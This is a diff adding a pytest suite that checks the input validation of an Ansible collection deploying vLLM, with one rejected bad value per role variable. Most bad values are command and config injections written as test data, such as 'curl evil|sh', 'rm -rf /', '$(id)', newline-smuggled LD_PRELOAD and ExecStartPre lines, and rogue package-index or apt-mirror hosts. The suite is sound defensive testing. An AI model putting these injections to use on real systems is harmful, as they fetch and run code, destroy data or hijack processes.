@@ -1,0 +1,307 @@
+"""Every user-facing variable of every role has a bad value that fails before any change, naming the variable.
+
+A case of class ``argument_spec`` is one that Ansible's role argument
+validation rejects at role entry (a wrong type, a value outside ``choices``):
+it is proven here with the same validator Ansible runs on the role's own
+``meta/argument_specs.yml``.  Every other case must fail in
+``input_check`` (the module the roles' preflight runs) with a message that
+starts with the variable's name.
+"""
+
+import glob
+import os
+
+import pytest
+import yaml
+from ansible.module_utils.common.arg_spec import ArgumentSpecValidator
+
+from ansible_collections.kunpeng.vllm.plugins.module_utils import input_check
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
+MISSING = "/nonexistent/kunpeng-input-check"
+NL = "abc\nVLLM_LOGGING_LEVEL=DEBUG"
+
+
+def _specs():
+    specs = {}
+    for path in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "meta", "argument_specs.yml"))):
+        role = path.split(os.sep)[-3]
+        if role.startswith("_"):  # private helper role, called by the other roles only
+            continue
+        with open(path) as handle:
+            specs[role] = yaml.safe_load(handle)["argument_specs"]["main"]["options"]
+    return specs
+
+
+SPECS = _specs()
+
+# (role, variable, bad value, class).  Classes: argument_spec (role entry
+# rejects it), out_of_range, wrong_type, engine_option, missing_path,
+# characters (shell, newline or control characters), size.
+CASES = [
+    # --- vllm ---
+    ("vllm", "vllm_backend", "tpu", "argument_spec"),
+    ("vllm", "vllm_version", "0.11.0; rm -rf /", "characters"),
+    ("vllm", "vllm_install_method", "conda", "argument_spec"),
+    ("vllm", "vllm_source_url", "git+https://x/vllm@v1 --index-url http://evil", "characters"),
+    ("vllm", "vllm_cpu_remove_packages", ["torchvision\nrm"], "characters"),
+    ("vllm", "vllm_cpu_remove_packages", {"a": 1}, "argument_spec"),
+    ("vllm", "vllm_extra_packages", ["foo; curl evil|sh"], "characters"),
+    ("vllm", "vllm_install_dir", "/opt/my vllm", "characters"),
+    ("vllm", "vllm_install_dir", "opt/vllm", "characters"),
+    ("vllm", "vllm_python", MISSING, "missing_path"),
+    ("vllm", "vllm_python", "/usr/bin/python3 -c x", "characters"),
+    ("vllm", "vllm_install_os_packages", "maybe", "argument_spec"),
+    ("vllm", "vllm_wheelhouse_src", MISSING, "missing_path"),
+    ("vllm", "vllm_pip_index_url", "https://mirror/simple\n--trusted-host evil", "characters"),
+    ("vllm", "vllm_pip_extra_index_urls", ["ftp://mirror"], "characters"),
+    ("vllm", "vllm_pip_find_links", ["/srv/wheels $(id)"], "characters"),
+    ("vllm", "vllm_pip_no_index", "sometimes", "argument_spec"),
+    ("vllm", "vllm_pip_timeout", 0, "out_of_range"),
+    ("vllm", "vllm_pip_timeout", "slow", "argument_spec"),
+    ("vllm", "vllm_wheelhouse_requirements", "../../etc/passwd", "characters"),
+    ("vllm", "vllm_reuse_host_torch", "perhaps", "argument_spec"),
+    ("vllm", "vllm_host_torch_python", MISSING, "missing_path"),
+    ("vllm", "vllm_model_source", "s3", "argument_spec"),
+    ("vllm", "vllm_model_src", MISSING, "missing_path"),
+    ("vllm", "vllm_model_src", "org/model; reboot", "characters"),
+    ("vllm", "vllm_model_sha256", "abc", "characters"),
+    ("vllm", "vllm_model_params_b", -1, "out_of_range"),
+    ("vllm", "vllm_model_params_b", "huge", "argument_spec"),
+    ("vllm", "vllm_model_weight_dtype", "fp4", "argument_spec"),
+    ("vllm", "vllm_nodes", 2, "out_of_range"),
+    ("vllm", "vllm_model_revision", "main\nX=1", "characters"),
+    ("vllm", "vllm_model_dir", "/var/lib/vllm/models/%n", "characters"),
+    ("vllm", "vllm_model_name", "smol$(id)", "characters"),
+    ("vllm", "vllm_model_name", "smol\nExecStartPre=/bin/sh", "characters"),
+    ("vllm", "vllm_hf_endpoint", "https://hf-mirror.com\nHF_TOKEN=x", "characters"),
+    ("vllm", "vllm_hf_token", "hf_abc\nLD_PRELOAD=/tmp/x.so", "characters"),
+    ("vllm", "vllm_modelscope_token", "ms abc", "characters"),
+    ("vllm", "vllm_instance_name", "a b", "characters"),
+    ("vllm", "vllm_host", "0.0.0.0 --trust-remote-code", "characters"),
+    ("vllm", "vllm_port", 70000, "out_of_range"),
+    ("vllm", "vllm_port", "eighty", "argument_spec"),
+    ("vllm", "vllm_api_key", NL, "characters"),
+    ("vllm", "vllm_api_key", "abc'def", "characters"),
+    ("vllm", "vllm_engine_args", {"no-such-option": 1}, "engine_option"),
+    ("vllm", "vllm_engine_args", {"max-model-len": "lots"}, "wrong_type"),
+    ("vllm", "vllm_engine_args", {"chat-template": "x\ny"}, "characters"),
+    ("vllm", "vllm_engine_args", "max_model_len=2048 junk", "argument_spec"),
+    ("vllm", "vllm_visible_devices", "0,1\nLD_PRELOAD=/tmp/x.so", "characters"),
+    ("vllm", "vllm_environment", {"NCCL_SOCKET_IFNAME": "eth0\nLD_PRELOAD=/tmp/x.so"}, "characters"),
+    ("vllm", "vllm_environment", {"BAD KEY": "1"}, "characters"),
+    ("vllm", "vllm_environment_files", ["/etc/vllm/extra env"], "characters"),
+    ("vllm", "vllm_cpu_kvcache_space_gib", 0, "out_of_range"),
+    ("vllm", "vllm_cpu_kvcache_space_gib", 4096, "size"),
+    ("vllm", "vllm_cpu_omp_threads_bind", "0-3; reboot", "characters"),
+    ("vllm", "vllm_user", "root\nUser=root", "characters"),
+    ("vllm", "vllm_group", "vllm users", "characters"),
+    ("vllm", "vllm_config_dir", "/etc/vllm\n", "characters"),
+    ("vllm", "vllm_cache_dir", "/var/cache/$HOME", "characters"),
+    ("vllm", "vllm_limit_nofile", 10, "out_of_range"),
+    ("vllm", "vllm_private_users", "often", "argument_spec"),
+    ("vllm", "vllm_restart_sec", -5, "out_of_range"),
+    ("vllm", "vllm_service_manager", "supervisord", "argument_spec"),
+    ("vllm", "vllm_ready_check", "never", "argument_spec"),
+    ("vllm", "vllm_ready_timeout", 0, "out_of_range"),
+    ("vllm", "vllm_ready_prompt", "", "characters"),
+    ("vllm", "vllm_ready_host", "localhost; id", "characters"),
+    ("vllm", "vllm_ready_expect", "Paris\x00", "characters"),
+    ("vllm", "vllm_ready_expect_regex", "Par\x1bis", "characters"),
+    # --- base ---
+    ("base", "base_service_user", "vllm user", "characters"),
+    ("base", "base_service_group", "-g0", "characters"),
+    ("base", "base_service_home", "relative/home", "characters"),
+    ("base", "base_install_dir", "/opt/v llm", "characters"),
+    ("base", "base_config_dir", "/etc/vllm%i", "characters"),
+    ("base", "base_model_dir", "/var/lib/`id`", "characters"),
+    ("base", "base_cache_dir", "/var/cache/vllm\n", "characters"),
+    ("base", "base_packages_extra", ["vim; reboot"], "characters"),
+    ("base", "base_driver_build", "yesno", "argument_spec"),
+    ("base", "base_apt_cache_valid_time", -1, "out_of_range"),
+    ("base", "base_ca_certificates", [{"name": "corp ca", "src": "/tmp/ca.pem"}], "characters"),
+    ("base", "base_apt_mirror_url", "http://mirror\ndeb http://evil", "characters"),
+    ("base", "base_apt_mirror_suites", ["bookworm main"], "characters"),
+    ("base", "base_apt_mirror_components", ["main\ncontrib"], "characters"),
+    ("base", "base_dnf_mirror_url", "mirror.example.com", "characters"),
+    ("base", "base_dnf_mirror_repos", ["OS EPOL"], "characters"),
+    ("base", "base_dnf_mirror_gpgcheck", "later", "argument_spec"),
+    ("base", "base_pip_conf_path", "pip.conf", "characters"),
+    ("base", "base_pip_index_url", "https://m/simple\n[global]", "characters"),
+    ("base", "base_pip_extra_index_urls", ["https://m/simple extra"], "characters"),
+    ("base", "base_pip_trusted_hosts", ["mirror\ntrusted-host = *"], "characters"),
+    ("base", "base_pip_find_links", ["wheels dir"], "characters"),
+    ("base", "base_pip_use_system_ca", "auto", "argument_spec"),
+    ("base", "base_tune_swappiness", "low", "argument_spec"),
+    ("base", "base_swappiness", 500, "out_of_range"),
+    ("base", "base_tune_numa_balancing", "off-ish", "argument_spec"),
+    ("base", "base_numa_balancing", "half", "argument_spec"),
+    ("base", "base_tune_limits", "lots", "argument_spec"),
+    ("base", "base_nofile_limit", 0, "out_of_range"),
+    ("base", "base_memlock_limit", "lots", "out_of_range"),
+    ("base", "base_tune_thp", "sometimes", "argument_spec"),
+    ("base", "base_thp_mode", "forever", "argument_spec"),
+    ("base", "base_tune_cpu_governor", "fast", "argument_spec"),
+    ("base", "base_cpu_governor", "turbo", "characters"),
+    ("base", "base_time_sync", "ntp", "argument_spec"),
+    ("base", "base_firewall_manage", "maybe", "argument_spec"),
+    ("base", "base_firewall_ports", [0], "out_of_range"),
+    ("base", "base_firewall_ports", ["http"], "argument_spec"),
+    # --- nvidia ---
+    ("nvidia", "nvidia_driver_min_version", "580\n", "characters"),
+    ("nvidia", "nvidia_driver_replace", "force", "argument_spec"),
+    ("nvidia", "nvidia_driver_source", "ppa", "argument_spec"),
+    ("nvidia", "nvidia_driver_branch", "latest; reboot", "characters"),
+    ("nvidia", "nvidia_kernel_module", "nouveau", "argument_spec"),
+    ("nvidia", "nvidia_cuda_repo_base_url", "developer.download.nvidia.com", "characters"),
+    ("nvidia", "nvidia_cuda_repo_trusted", "trust-me", "argument_spec"),
+    ("nvidia", "nvidia_runfile_src", "/srv/NVIDIA-Linux-x86_64.run\nrm -rf /", "characters"),
+    ("nvidia", "nvidia_runfile_sha256", "not-a-hash", "characters"),
+    ("nvidia", "nvidia_cuda_toolkit_version", "12.8 && reboot", "characters"),
+    ("nvidia", "nvidia_persistenced", "on-demand", "argument_spec"),
+    ("nvidia", "nvidia_reboot", "later", "argument_spec"),
+    ("nvidia", "nvidia_reboot_timeout", 5, "out_of_range"),
+    ("nvidia", "nvidia_manage_env_file", "sure", "argument_spec"),
+    ("nvidia", "nvidia_env_file", "nvidia.env", "characters"),
+    ("nvidia", "nvidia_cuda_home", "/usr/local/cuda 12", "characters"),
+    ("nvidia", "nvidia_probe_options", {"smi": "nvidia-smi\n-q"}, "characters"),
+    # --- ascend ---
+    ("ascend", "ascend_packages", {"driver": {"file": "x.run\nrm -rf /"}}, "characters"),
+    ("ascend", "ascend_package_source", "ftp", "argument_spec"),
+    ("ascend", "ascend_package_dir", "packages", "characters"),
+    ("ascend", "ascend_package_base_url", "https://repo/ascend pkgs", "characters"),
+    ("ascend", "ascend_package_validate_certs", "nah", "argument_spec"),
+    ("ascend", "ascend_staging_dir", "/var/cache/a b", "characters"),
+    ("ascend", "ascend_install_path", "/usr/local/Ascend;id", "characters"),
+    ("ascend", "ascend_install_user", "Hw Hi", "characters"),
+    ("ascend", "ascend_install_group", "grp\n", "characters"),
+    ("ascend", "ascend_series", "950", "argument_spec"),
+    ("ascend", "ascend_install_timeout", 1, "out_of_range"),
+    ("ascend", "ascend_driver_prereq_check", "skip", "argument_spec"),
+    ("ascend", "ascend_reboot", "later", "argument_spec"),
+    ("ascend", "ascend_reboot_timeout", 0, "out_of_range"),
+    ("ascend", "ascend_verify_devices", "some", "argument_spec"),
+    ("ascend", "ascend_log_fetch_dir", "logs", "characters"),
+    ("ascend", "ascend_env_file", "/etc/vllm/ascend env", "characters"),
+    ("ascend", "ascend_nnal_cxx_abi", "2", "argument_spec"),
+    ("ascend", "ascend_probe_options", {"npu_smi": "npu-smi\ninfo"}, "characters"),
+    # --- wheelhouse ---
+    ("wheelhouse", "wheelhouse_backend", "rocm", "argument_spec"),
+    ("wheelhouse", "wheelhouse_vllm_version", "latest", "characters"),
+    ("wheelhouse", "wheelhouse_python_version", "2.7", "characters"),
+    ("wheelhouse", "wheelhouse_architecture", "riscv64", "argument_spec"),
+    ("wheelhouse", "wheelhouse_glibc", "musl", "characters"),
+    ("wheelhouse", "wheelhouse_dest", "wheels", "characters"),
+    ("wheelhouse", "wheelhouse_target_freeze", MISSING, "missing_path"),
+    ("wheelhouse", "wheelhouse_target_freeze", "freeze.txt", "characters"),
+    ("wheelhouse", "wheelhouse_leave_out", ["torch triton"], "characters"),
+    ("wheelhouse", "wheelhouse_uv", "uv; id", "characters"),
+    ("wheelhouse", "wheelhouse_python", "python3", "characters"),
+    ("wheelhouse", "wheelhouse_index_url", "pypi.org/simple", "characters"),
+]
+
+CLASSES = {"argument_spec", "out_of_range", "wrong_type", "engine_option", "missing_path", "characters", "size"}
+# Where a path must exist for the missing_path cases; the condition values that turn the check on.
+PATH_CONTEXT = {"vllm_model_src": {"vllm_model_source": "local"}}
+
+
+def _ids(case):
+    return f"{case[0]}-{case[1]}-{case[3]}"
+
+
+def test_every_user_facing_variable_has_a_bad_value_case():
+    covered = {(role, name) for role, name, _value, _kind in CASES}
+    declared = {(role, name) for role, options in SPECS.items() for name in options}
+    assert sorted(declared - covered) == [], "add a bad-value case to CASES for these variables"
+    assert sorted(covered - declared) == [], "these cases name variables no argument_specs declares"
+
+
+def test_the_rule_table_covers_exactly_the_declared_variables():
+    for role, options in SPECS.items():
+        assert sorted(input_check.RULES[role]) == sorted(options), role
+
+
+def test_secret_variables_are_those_argument_specs_hides():
+    hidden = sorted(name for options in SPECS.values() for name, spec in options.items() if spec.get("no_log"))
+    assert sorted(input_check.SECRETS) == hidden
+
+
+def test_every_class_the_issue_names_is_tried():
+    assert {kind for *_rest, kind in CASES} == CLASSES
+
+
+@pytest.mark.parametrize("case", CASES, ids=_ids)
+def test_bad_value_fails_naming_the_variable(case):
+    role, name, value, kind = case
+    assert kind in CLASSES
+    if kind == "argument_spec":
+        result = ArgumentSpecValidator(SPECS[role]).validate({name: value})
+        errors = [str(error) for error in result.errors]
+        assert errors and any(name in error for error in errors), errors
+        return
+    values = dict(PATH_CONTEXT.get(name, {}), **{name: value})
+    if kind == "missing_path":
+        where = [place for key, (place, cond) in input_check.PATHS[role].items()
+                 if key.split("@")[0] == name][0]
+        problems = input_check.missing_paths(input_check.paths_to_check(role, values, where), where=where)
+    else:
+        problems = input_check.check_values(role, values, memory_mb=16 * 1024)
+    assert problems, f"{name}={value!r} passed"
+    assert any(problem.startswith(name) for problem in problems), problems
+    for problem in problems:
+        assert " set " in problem or "; " in problem or " or " in problem, f"no fix in: {problem}"
+
+
+@pytest.mark.parametrize("role", sorted(SPECS))
+def test_declared_defaults_pass(role):
+    values = {name: spec["default"] for name, spec in SPECS[role].items()
+              if "default" in spec and not (isinstance(spec["default"], str) and ("<" in spec["default"] or "{{" in spec["default"]))}
+    assert input_check.check_values(role, values, memory_mb=16 * 1024) == []
+
+
+@pytest.mark.parametrize("name, value", [
+    ("vllm_api_key", "sk-Abc_123.xyz+/=="),
+    ("vllm_cpu_omp_threads_bind", "0-31|32-63"),
+    ("vllm_environment", {"LD_PRELOAD": "/usr/lib/aarch64-linux-gnu/libjemalloc.so.2", "HCCL_BUFFSIZE": 200}),
+    ("vllm_environment", {"NCCL_SOCKET_IFNAME": "^docker0,lo", "NOTE": "a b $HOME | x"}),
+    ("vllm_model_src", "HuggingFaceTB/SmolLM2-135M-Instruct"),
+    ("vllm_model_src", "https://example.com/m.tar.gz"),
+    ("vllm_engine_args", {"max_model_len": 2048, "dtype": "float32", "enforce_eager": True}),
+    ("vllm_visible_devices", "GPU-0a1b2c3d-1111-2222-3333-444455556666,1"),
+    ("vllm_host", "::"),
+    ("vllm_pip_find_links", ["/opt/vllm/wheelhouse", "https://download.pytorch.org/whl/cpu"]),
+    ("vllm_extra_packages", ["llguidance>=0.7,<0.8", "git+https://github.com/x/y@v1"]),
+])
+def test_usual_values_pass(name, value):
+    assert input_check.check_values("vllm", {name: value}, memory_mb=16 * 1024) == []
+
+
+def test_env_file_injection_of_the_issue_fails_without_repeating_the_secret():
+    problems = input_check.check_values("vllm", {"vllm_api_key": NL})
+    assert len(problems) == 1
+    assert problems[0].startswith("vllm_api_key: the value holds a line break")
+    assert "DEBUG" not in problems[0] and "abc" not in problems[0]
+
+
+def test_engine_option_absent_from_the_release_names_the_release():
+    # speculative-model is gone from vLLM 0.9.1 on (engine_options' change list).
+    problems = input_check.check_values("vllm", {"vllm_version": "0.11.0", "vllm_engine_args": {"speculative_model": "x"}})
+    assert len(problems) == 1 and problems[0].startswith("vllm_engine_args: ") and "0.11.0" in problems[0]
+
+
+def test_kv_cache_fits_memory_only_when_the_memory_is_known():
+    assert input_check.check_values("vllm", {"vllm_cpu_kvcache_space_gib": 64}) == []
+    assert input_check.check_values("vllm", {"vllm_cpu_kvcache_space_gib": 64}, memory_mb=32 * 1024)
+
+
+def test_controller_and_node_paths_are_checked_where_they_are_read():
+    values = {"vllm_python": "/usr/bin/python3", "vllm_model_source": "controller", "vllm_model_src": "/srv/m",
+              "vllm_wheelhouse_src": "/srv/w"}
+    assert input_check.paths_to_check("vllm", values, "node") == {"vllm_python": "/usr/bin/python3"}
+    assert input_check.paths_to_check("vllm", values, "controller") == {
+        "vllm_model_src": "/srv/m", "vllm_wheelhouse_src": "/srv/w"}
+    # A repository id is not a path.
+    values = {"vllm_model_source": "huggingface", "vllm_model_src": "org/model"}
+    assert input_check.paths_to_check("vllm", values, "node") == {}
+    assert input_check.missing_paths({"vllm_python": "/x"}, exists=lambda path: False) == [
+        "vllm_python: /x does not exist on the node; create it or point vllm_python at an existing path"]
